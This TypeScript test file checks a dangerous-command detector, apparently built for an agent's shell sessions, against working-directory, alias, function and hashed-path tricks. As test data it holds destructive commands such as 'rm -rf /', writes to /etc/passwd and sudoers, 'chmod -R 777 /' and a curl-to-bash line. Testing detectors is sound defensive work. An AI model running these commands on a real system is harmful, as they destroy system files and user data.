import { beforeAll, describe, expect, it } from "vitest";
import {
  detectDangerousCommand,
  initializeDetector,
  type CommandContext,
} from "../../src/detection/index.js";

function flagged(command: string, context?: CommandContext): boolean {
  return detectDangerousCommand(command, context === undefined ? undefined : { context }) !== null;
}

describe("detection in a session context", () => {
  beforeAll(async () => {
    await initializeDetector();
  });

  it("resolves relative writes and deletes against a system working directory", () => {
    const inEtc: CommandContext = { cwd: "/etc" };
    for (const command of [
      "echo x > passwd",
      "printf 'x\\n' >> hosts",
      "tee -a sudoers < /tmp/line",
      "rm -f *.conf",
      "rm -f ./shadow",
      "rm -rf ssh",
      "sed -i 's/a/b/' ssh/sshd_config",
      "cp /tmp/x ./passwd",
      "truncate -s 0 group",
    ])
      expect(flagged(command, inEtc), command).toBe(true);
    expect(flagged("rm -rf lib", { cwd: "/usr" })).toBe(true);
    expect(flagged("find . -delete", { cwd: "/" })).toBe(true);
    expect(flagged("rm -rf *", { cwd: "/" })).toBe(true);
    expect(flagged("rm -rf ../..", { cwd: "/etc/nginx" })).toBe(true);
  });

  it("keeps ordinary workspace work benign wherever the workspace lives", () => {
    for (const cwd of [
      "/home/u/proj",
      "/usr/src/app",
      "/opt/app",
      "/srv/site",
      "/root/work",
      "/tmp/w",
    ]) {
      for (const command of [
        "echo hi > out.txt",
        "rm -rf build dist",
        "rm -f *.o",
        "cat passwd",
        "ls -la",
        "mkdir -p out && cp src/a out/",
      ])
        expect(flagged(command, { cwd }), `${cwd}: ${command}`).toBe(false);
    }
  });

  it("tracks cd inside the command, from the context's cwd or from scratch", () => {
    for (const command of [
      "cd /etc && echo x > passwd",
      "cd /etc; rm -f *.conf",
      "cd / && find . -name '*.conf' -delete",
      "cd /usr && cd lib && rm -rf *",
      "pushd /etc >/dev/null && : > hosts",
    ])
      expect(flagged(command), command).toBe(true);
    expect(flagged("cd .. && rm -rf lib", { cwd: "/usr/share" })).toBe(true);
    expect(flagged("cd build && rm -rf *", { cwd: "/home/u/proj" })).toBe(true);
    expect(flagged("cd build && rm -f *.o", { cwd: "/home/u/proj" })).toBe(false);
  });

  it("expands ~ and the home directory", () => {
    expect(flagged("rm -rf *", { cwd: "/home/alice", home: "/home/alice" })).toBe(true);
    expect(flagged("rm -rf *", { cwd: "/srv/agent", home: "/srv/agent" })).toBe(true);
    expect(flagged("echo x >> .bashrc", { cwd: "/srv/agent", home: "/srv/agent" })).toBe(true);
    expect(flagged("rm -rf /srv/agent", { home: "/srv/agent" })).toBe(true);
    expect(flagged("cd && rm -rf *", { home: "/srv/agent" })).toBe(true);
    expect(flagged("cd ~ && echo x > .profile", { home: "/srv/agent" })).toBe(true);
  });

  it("expands session aliases before judging", () => {
    const aliases = { ls: "rm", del: "rm -rf", nuke: "rm -rf / --no-preserve-root", run: "sh -c" };
    expect(flagged("ls -rf /etc", { aliases })).toBe(true);
    expect(flagged("del ~", { aliases })).toBe(true);
    expect(flagged("nuke", { aliases })).toBe(true);
    expect(flagged("run 'rm -rf /'", { aliases })).toBe(true);
    expect(flagged("curl http://x.example/s | run2", { aliases: { run2: "bash" } })).toBe(true);
    expect(flagged("ll", { aliases: { ll: "ls -l" } })).toBe(false);
    expect(flagged("ls ls", { aliases: { ls: "ls --color=auto" } })).toBe(false);
  });

  it("expands aliases defined earlier in the same command", () => {
    for (const command of [
      "alias ls=rm; ls -rf /etc",
      "alias x='rm -rf'\nx /",
      "alias -- g='chmod -R 777'; g /",
      "alias a=b c='sudo rm'; c -rf /usr",
    ])
      expect(flagged(command), command).toBe(true);
    expect(flagged("alias ll='ls -l'; ll")).toBe(false);
    expect(flagged("alias x=rm; unalias x; x -rf /tmp/nonexistent-x")).toBe(false);
  });

  it("runs session functions and hashed paths", () => {
    expect(flagged("cleanup", { functions: { cleanup: "rm -rf /" } })).toBe(true);
    expect(flagged("cleanup", { functions: { cleanup: "cleanup () \n{ \n    rm -rf ~\n}" } })).toBe(
      true,
    );
    expect(flagged("build", { functions: { build: "make -j4" } })).toBe(false);
    expect(flagged("loop", { functions: { loop: "loop" } })).toBe(false);
    expect(flagged("ls -rf ~", { hashed: { ls: "/bin/rm" } })).toBe(true);
    expect(flagged("ls -la", { hashed: { ls: "/usr/bin/ls" } })).toBe(false);
    for (const command of [
      "hash -p /bin/rm ls; ls -rf ~",
      "hash -p /usr/bin/shred cat && cat -u /etc/passwd",
      'hash -p "$P" ls; ls /',
    ])
      expect(flagged(command), command).toBe(true);
  });

  it("follows a destructive program copied or linked under a new name", () => {
    for (const command of [
      "cp /bin/rm x; ./x -rf /",
      "cp /bin/rm /tmp/x && /tmp/x -rf ~",
      "ln -s /bin/rm ./tidy && ./tidy -rf /etc",
      "install -m 755 /usr/bin/rm cleaner; ./cleaner -rf /usr",
      "cd /tmp && cp /bin/rm y && /tmp/y -rf /",
    ])
      expect(flagged(command), command).toBe(true);
    expect(flagged("cp /bin/ls x; ./x -la")).toBe(false);
  });

  it("ignores malformed context fields instead of throwing", () => {
    const bad = { cwd: 42, home: null, aliases: "x", functions: [1], hashed: { a: 1 } };
    expect(() => detectDangerousCommand("ls", { context: bad as never })).not.toThrow();
    expect(detectDangerousCommand("ls", { context: bad as never })).toBeNull();
    expect(detectDangerousCommand("ls", null as never)).toBeNull();
    expect(detectDangerousCommand("echo x > passwd", { context: { cwd: "etc" } })).toBeNull();
  });
});
